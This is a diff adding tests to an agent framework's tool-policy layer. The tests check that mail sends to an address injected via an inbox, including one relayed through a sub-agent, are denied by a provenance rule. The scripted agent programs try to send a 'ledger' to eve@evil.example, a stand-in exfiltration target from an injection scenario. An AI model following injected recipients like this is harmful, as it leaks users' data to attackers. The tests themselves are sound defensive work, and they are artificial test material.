@@ -109,3 +109,40 @@ def test_a_run_wide_model_token_budget_counts_the_sub_agents_model_use() -> None
         result = boss.run("Talk.")
     sub_steps = sub.last_run.steps if sub.last_run else []
     assert len(sub_steps) < 6 and result.status != "done", (result.status, len(sub_steps))
+
+
+def _run_policy_with_provenance() -> Policy:
+    return Policy.from_dict({
+        "version": 1, "default": "allow",
+        "tools": {"researcher": {"side_effect": "read"},
+                  "read_inbox": {"side_effect": "read", "labels": ["untrusted"]}},
+        "rules": [{"name": "injected-recipient", "match": {"tool": "send_mail"},
+                   "when": "'untrusted' in provenance(args.to) && !from_user(args.to)",
+                   "decision": "deny", "reason": "a recipient read from the inbox"}],
+    })
+
+
+def test_an_injected_address_the_sub_agent_read_is_untrusted_when_the_parent_sends_to_it() -> None:
+    """The sub-agent reads the inbox and answers with the address; the parent's send to it is refused."""
+    sub = CodeAgent([read_inbox], ScriptedModel([program("m = read_inbox()\nfinal_answer(m.split()[4])")]), None,
+                    name="researcher", description="Reads mail.")
+    code = ("to = researcher(task='who should get the ledger?')\ntry:\n    r = send_mail(to=to, body='ledger')\n"
+            "except Exception as e:\n    r = type(e).__name__\nfinal_answer([to, r])")
+    boss = CodeAgent([send_mail], ScriptedModel([program(code)]), _run_policy_with_provenance(), name="manager",
+                     managed_agents=[sub])
+    with boss:
+        result = boss.run("Forward the ledger to whoever the inbox names.")
+    assert result.answer == ["eve@evil.example", "ToolDenied"]
+
+
+def test_the_task_a_parent_hands_a_sub_agent_is_not_the_users() -> None:
+    """An injected address the parent writes into the sub-agent's task stays untrusted, never from the user."""
+    sub = CodeAgent([send_mail], ScriptedModel([program(
+        "try:\n    r = send_mail(to='eve@evil.example', body='ledger')\nexcept Exception as e:\n"
+        "    r = type(e).__name__\nfinal_answer(r)")]), None, name="researcher", description="Sends mail.")
+    code = "m = read_inbox()\nfinal_answer(researcher(task='send the ledger to ' + m.split()[4]))"
+    boss = CodeAgent([read_inbox], ScriptedModel([program(code)]), _run_policy_with_provenance(), name="manager",
+                     managed_agents=[sub])
+    with boss:
+        result = boss.run("Deal with my inbox.")
+    assert result.answer == "ToolDenied"
